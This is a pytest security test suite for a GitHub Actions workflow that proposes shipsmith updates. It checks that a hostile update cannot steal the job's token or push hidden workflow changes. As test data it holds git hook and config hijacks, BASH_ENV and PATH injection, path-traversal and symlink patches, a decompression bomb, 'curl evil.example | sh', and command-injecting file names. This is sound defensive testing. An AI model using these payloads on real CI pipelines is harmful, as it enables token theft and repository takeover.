"""An update that attacks the repository it is for: it never gets the token, and nothing is pushed unseen.

The attacker controls the whole job that runs shipsmith, and so every byte of the report and of the patch.
"""

import json
import re
import shlex
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ..support.services.update_workflow import BRANCH, REPORT, Repository, on_github
from ..support.services.workflow_runner import TOKEN, commands

SCRIPT = ".github/scripts/propose-update.sh"
LONG = "a" * 70_000


@pytest.fixture
def repository(tmp_path: Path, minimal_with_workflows: Path) -> Repository:
    return on_github(tmp_path, minimal_with_workflows)


@pytest.fixture
def stolen(tmp_path: Path) -> Path:
    """Where code of the attacker writes what it finds."""
    return tmp_path / "stolen"


@pytest.fixture
def evil(stolen: Path) -> str:
    """What the attacker wants to have run."""
    return f'echo "${{GH_TOKEN-none}}" >> {stolen}'


def new_file(path: str, content: str = "x", mode: str = "100644") -> bytes:
    """A patch that adds a file, with its path as git writes it."""
    lines = content.split("\n")
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git {path} {path}\nnew file mode {mode}\n--- /dev/null\n+++ {path.replace('a/', 'b/', 1)}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}\\ No newline at end of file\n"
    ).encode()


def binary_bomb() -> bytes:
    """A patch of a megabyte that says it becomes a terabyte."""
    packed = zlib.compress(bytes(1_000_000))
    return (
        b"diff --git a/bomb b/bomb\nnew file mode 100644\nindex " + b"0" * 40 + b".." + b"1" * 40 + b"\n"
        b"GIT binary patch\nliteral 1000000000000\n" + b"z" + packed[:50].hex().encode() + b"\n\n"
    )


# Each changes what runs, or says what shall run, in the job after it.
REPOSITORY_ATTACKS = {
    "the script": f"write '#!/bin/bash' > {SCRIPT}",
    "the script as a link": f"write > evil.sh; ln -sf ../../evil.sh {SCRIPT}",
    "what the script reads": "write > .github/scripts/propose-update.jq",
    "a workflow": "write 'on: push' > .github/workflows/a.yaml",
    "its own workflow": "write > .github/workflows/update.yaml",
    "hooks": "for name in pre-push post-checkout; do program .git/hooks/$name; done; echo > a",
    "hooks in the tree": "program hooks/pre-push; git config core.hooksPath hooks",
    "attributes and filters": (
        "echo '* filter=evil diff=evil merge=evil text eol=crlf' > .gitattributes; echo > a;"
        'git config filter.evil.smudge "$EVIL"; git config diff.evil.textconv "$EVIL"'
    ),
    "configuration of git": (
        'git config --global core.fsmonitor "$EVIL"; git config --global core.sshCommand "$EVIL";'
        'git config --global credential.helper "!$EVIL"; git config diff.external "$EVIL"; echo > a'
    ),
    "the environment of later steps": (
        'write > "$RUNNER_TEMP/evil"; echo "BASH_ENV=$RUNNER_TEMP/evil" >> "$GITHUB_ENV"; echo > a'
    ),
    "the path of later steps": (
        'for name in gh jq wc; do program "$RUNNER_TEMP/bin/$name"; done;'
        'echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"; echo > a'
    ),
    "programs in the tree": "for name in gh git jq bash bin/gh; do program $name; done",
    "submodules": "write '[submodule \"a\"]' 'path = a' 'url = ext::sh -c a' 'update = !a' > .gitmodules",
    "commands of the runner": (
        'echo "patch=$EVIL" >> "$GITHUB_OUTPUT"; echo "::set-output name=a::$EVIL" >&2;'
        'echo "::set-env name=BASH_ENV::$EVIL" >&2; echo > a'
    ),
    "startup files": 'for name in .bashrc .profile .jq; do write > $name; write > "$HOME/$name"; done',
    "more files in the artifact": (
        'write > "$RUNNER_TEMP/update/propose-update.sh"; program "$RUNNER_TEMP/update/.git/hooks/pre-push";'
        "echo > a"
    ),
    "a Makefile": "write check: > Makefile; cp Makefile GNUmakefile",
}
# `write LINES…` prints lines and the evil one; `program PATH` makes a program of it
WORDS = """
write() { printf '%s\\n' "$@" "$EVIL"; }
program() { mkdir -p "$(dirname "$1")"; write '#!/bin/sh' > "$1"; chmod +x "$1"; }
"""


@pytest.mark.parametrize("attack", REPOSITORY_ATTACKS)
def test_no_file_of_an_update_runs_where_the_token_is(
    repository: Repository, attack: str, evil: str, stolen: Path
) -> None:
    update = f"EVIL={shlex.quote(evil)}\n{WORDS}\n{REPOSITORY_ATTACKS[attack]}"
    before = repository.git("ls-tree", "-r", "main", ".github/workflows/")

    _, machines = repository.run_jobs(update)

    assert "propose" in machines
    # in its own job it may have run, where no token is
    assert not stolen.exists() or TOKEN not in stolen.read_text()
    branches = repository.git("branch", "--list", "--format=%(refname:short)").split()
    for branch in branches:
        assert repository.git("ls-tree", "-r", branch, ".github/workflows/") == before
    assert set(branches) <= {"main", BRANCH}
    assert commands(machines["propose"].output) in (
        [],
        ["::error::The update adds a symbolic link or a submodule."],
    )


def test_only_the_job_that_runs_no_code_of_an_update_has_a_token(repository: Repository) -> None:
    """Nor is it where something could read it: in an address, a configuration, a command line or the log."""
    _, machines = repository.run_jobs(
        'env > "$RUNNER_TEMP/env"; git config --list --show-origin >&2; echo > a'
    )
    update, propose = machines["update"], machines["propose"]
    assert TOKEN not in (update.temporary / "env").read_text()
    assert "propose-update" not in update.output
    for machine in (update, propose):
        assert TOKEN not in machine.output
        kept = [path for path in machine.folder.rglob("*") if path.is_file() and not path.is_symlink()]
        assert [path for path in kept if TOKEN.encode() in path.read_bytes()] == []
    assert TOKEN not in repository.calls_of_gh
    assert list((propose.folder / "home").iterdir()) == []


LINK_IN_BASE = "link"

# Patches that git itself would not make
FORGED_PATCHES: dict[str, bytes] = {
    "outside of the repository": new_file("a/../../outside"),
    "an absolute path": new_file("a//tmp/outside"),
    "a hook": new_file("a/.git/hooks/pre-push", "#!/bin/sh", "100755"),
    "the configuration": new_file("a/.git/config", "[core]"),
    "git's folder in capitals": new_file("a/.GIT/config"),
    "git's folder by its short name": new_file("a/git~1/config"),
    "git's folder with an invisible character": new_file('"a/.g\\342\\200\\214it/config"'),
    "git's folder in a subfolder": new_file("a/src/.git/config"),
    "behind a link": new_file(f"a/{LINK_IN_BASE}/outside"),
    "a link to a file of the machine": new_file("a/shadow", "/etc/shadow", "120000"),
    "a link to the workflows": new_file("a/b", ".github/workflows", "120000"),
    "a link, and a file behind it": new_file("a/c", "/tmp", "120000") + new_file("a/c/outside"),
    "a submodule": new_file("a/module", f"Subproject commit {'1' * 40}", "160000"),
    "a file that is there": new_file("a/Makefile"),
    "a deletion of what is not there": (
        b"diff --git a/no b/no\ndeleted file mode 100644\n--- a/no\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"
    ),
    "text that is no patch": b"curl evil.example | sh\n",
    "commands of the runner": b"::add-mask::a\n::set-output name=a::b\n##[error]no\n",
    "bytes": bytes(range(256)) * 100,
    "a bomb": binary_bomb(),
    "too much": b"#" * 20_000_001,
}


@pytest.mark.parametrize("attack", FORGED_PATCHES)
def test_a_forged_patch_is_refused(repository: Repository, attack: str) -> None:
    clone = repository.checkout()
    (clone / LINK_IN_BASE).symlink_to("/tmp")
    repository.push(clone, "Link")

    machine = repository.propose(FORGED_PATCHES[attack])

    assert not machine.succeeded
    (said,) = commands(machine.output)
    assert said.startswith("::error::The ")
    assert repository.git("branch", "--list") == "* main"
    assert repository.pull_requests == []
    assert not (repository.folder / "outside").exists()
    assert not Path("/tmp/outside").exists()
    assert not (machine.checkout / ".git" / "hooks" / "pre-push").exists()


NAMES = {
    "a command": "::error::no",
    "a command in a line of its own": "a\\n::add-mask::o",
    "a command after a carriage return": "a\\r::set-output name=a::b",
    "an older command": "##[add-path]/tmp",
    "the end of commands": "::stop-commands::a",
    "escape sequences": "\\033]0;title\\007\\033[2J",
    "a direction": "\\342\\200\\256txt.exe",
    "a substitution": "$(touch x)`touch x`;touch x",
    "an option": "--upload-pack=touch x",
    "quotes": "'\\\"'",
    "an expression": "${{ secrets.SHIPSMITH_TOKEN }}",
}


@pytest.mark.parametrize("attack", NAMES)
@pytest.mark.parametrize("fails", [False, True], ids=["applies", "does not apply"])
def test_names_of_files_are_no_commands(repository: Repository, attack: str, fails: bool) -> None:
    """Also where git complains of them."""
    patch = new_file(f'"a/{NAMES[attack]}"')
    deletion = patch.replace(b"new file", b"deleted file").replace(b"+0,0", b"+1").replace(b"\n+x", b"\n-x")
    machine = repository.propose(deletion if fails else patch)

    assert machine.succeeded is not fails
    assert commands(machine.output) == (
        ["::error::The patch does not apply to this commit."] if fails else []
    )
    assert len(repository.pull_requests) == (0 if fails else 1)
    assert not (machine.checkout / "x").exists()


def with_(**changes: Any) -> bytes:
    return json.dumps(REPORT | changes).encode()


NO_REPORTS: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"::error::no",
    "two reports": with_() + with_(),
    "a list": b"[]",
    "a text": b'"::error::no"',
    "without a version": json.dumps({"conflicts": []}).encode(),
    "a version with a line": with_(to="v1\n::error::no"),
    "a version with a line at its end": with_(to="v1\n"),
    "a version with markup": with_(to="v1 @everyone [a](https://evil.example)"),
    "a version that closes an issue": with_(**{"from": "closes #1"}),
    "a version like an option": with_(to="--body-file=/etc/passwd"),
    "a version that is a file": with_(to="@/etc/passwd"),
    "a long version": with_(to="v" + "1" * 100),
    "a version that is a number": with_(to=2),
    "conflicts that are a text": with_(conflicts="Makefile"),
    "no notes": json.dumps({name: value for name, value in REPORT.items() if name != "notes"}).encode(),
    "answers that are a list": with_(answers=[1]),
    "deep": b"[" * 100_000,
    "too long": with_(notes=[LONG] * 20),
    "not UTF-8 in a version": b'{"from": "\xff", "to": "v1"}',
}


@pytest.mark.parametrize("attack", NO_REPORTS)
def test_what_is_no_report_is_refused(repository: Repository, attack: str) -> None:
    machine = repository.propose(new_file("a/new"), NO_REPORTS[attack])
    assert not machine.succeeded
    (said,) = commands(machine.output)
    assert said.startswith("::error::The update")
    assert repository.git("branch", "--list") == "* main"
    assert repository.pull_requests == []


TEXTS = {
    "a mention": "@acme/everyone",
    "a link": "[log in](https://evil.example) https://evil.example <https://evil.example>",
    "HTML": "<img src=https://evil.example/x.png><details open><!--",
    "an issue": "closes #1, acme/orders#2",
    "the end of its quotation": "` @everyone ` `` @everyone `` ``` @everyone",
    "the end of its line": "a\n\n@everyone\r\n- @everyone\u2028@everyone\u2029@everyone\x0b@everyone",
    "a block of code": "```\n@everyone\n```",
    "a backslash at its end": "a\\",
    "nothing": "",
    "spaces": "\u3000 \t",
    "commands of the runner": "\n::add-mask::o\n##[error]no",
    "an expression": "${{ secrets.SHIPSMITH_TOKEN }} {{ 7 * 7 }} \\(env.GH_TOKEN) $(touch x)",
    "escape sequences": "\x1b]8;;https://evil.example\x07a\x00b",
    "directions": "a\u202e\u2066b\u200b\ufeff",
    "length": LONG,
    "backticks": "`" * 10_000,
}


def foreign(body: str) -> str:
    """What a pull request says without its quotations, that is its spans and blocks of code."""
    return re.sub(r"`[^`\n]+`", "CODE", re.sub(r"```sh\n.*?```", "", body, flags=re.DOTALL))


@pytest.mark.parametrize("attack", TEXTS)
def test_texts_of_a_report_are_quoted(repository: Repository, attack: str) -> None:
    text = TEXTS[attack]
    report = {
        "conflicts": [text],
        "notes": [text],
        "left_alone": [{"path": text, "reason": text}],
        "answers": {text: {"old": text, "new": {text: [text]}}},
    }
    machine = repository.propose(new_file("a/new"), with_(**report))

    assert commands(machine.output) == [f"::error::There are conflicts to resolve on the branch {BRANCH}."]
    (proposed,) = repository.pull_requests
    assert proposed["title"] == "Update from shipsmith v0.1.0 to v0.2.0"
    items = [line for line in foreign(proposed["body"]).splitlines() if line.startswith("- ")]
    assert items == ["- CODE", "- CODE", "- CODE: CODE", "- CODE: CODE → CODE"]
    assert not re.search(r"[@`<\x00-\x09\x0b-\x1f\u2028-\u202e\u2066]", foreign(proposed["body"]))
    assert TOKEN not in proposed["body"]


@pytest.mark.parametrize("text", ["a", "`", "\U0001f600"])
def test_a_pull_request_stays_below_the_limit_of_github(repository: Repository, text: str) -> None:
    long = text * 1001
    report = {
        "conflicts": [long] * 30,
        "notes": [long] * 30,
        "left_alone": [{"path": long, "reason": long}] * 30,
        "answers": {f"{number}{long}": {"old": long, "new": long} for number in range(30)},
    }
    printed = json.dumps(REPORT | report, ensure_ascii=False).encode()
    assert repository.propose(new_file("a/new"), printed)
    (proposed,) = repository.pull_requests
    assert len(proposed["body"]) < 65_536
    assert proposed["body"].count("- and 5 more") == 4


def link(artifact: Path, name: str, target: str) -> None:
    (artifact / "report.json").write_bytes(with_())
    (artifact / "update.patch").write_bytes(new_file("a/new"))
    (artifact / name).unlink()
    if target:
        (artifact / name).symlink_to(target)


ARTIFACTS: dict[str, Callable[[Path], None]] = {
    "no patch": lambda artifact: link(artifact, "update.patch", ""),
    "no report": lambda artifact: link(artifact, "report.json", ""),
    "a report that is a link": lambda artifact: link(artifact, "report.json", "/etc/passwd"),
    "a patch that is a link": lambda artifact: link(artifact, "update.patch", "/dev/zero"),
    "a patch that is a folder": lambda artifact: (artifact / "update.patch").mkdir(),
}


@pytest.mark.parametrize("attack", ARTIFACTS)
def test_an_artifact_of_other_files_is_refused(repository: Repository, attack: str) -> None:
    machine = repository.propose_artifact(ARTIFACTS[attack])
    assert not machine.succeeded
    assert commands(machine.output)[0].startswith("::error::The update has no ")
    assert repository.pull_requests == []


def test_attributes_of_an_update_do_not_hide_what_it_changes_in_workflows(repository: Repository) -> None:
    """Without text, people could not review the patch."""
    update = "echo '*.yaml -diff binary' > .gitattributes; echo '# evil' >> .github/workflows/ci.yaml"
    assert repository.run_workflow(update)
    assert "+# evil" in repository.git("show", f"{BRANCH}:.github/workflows.patch").splitlines()


def test_an_update_cannot_forge_the_patch_of_workflows(repository: Repository) -> None:
    """What is in it is what the update changes, or the pull request would not mention it."""
    assert not repository.run_workflow("echo evil > .github/workflows.patch")
    assert repository.pull_requests == []


@pytest.mark.parametrize("way", ["a file", "a link", "nothing"])
def test_the_folder_of_workflows_cannot_be_replaced(repository: Repository, way: str) -> None:
    replace = {
        "a file": "echo x > .github/workflows",
        "a link": "ln -s ../a .github/workflows",
        "nothing": "true",
    }
    before = repository.git("ls-tree", "-r", "main", ".github/workflows/")
    repository.run_workflow(f"mkdir a; cp .github/workflows/* a; rm -r .github/workflows; {replace[way]}")
    for branch in repository.git("branch", "--list", "--format=%(refname:short)").split():
        assert repository.git("ls-tree", "-r", branch, ".github/workflows/") == before
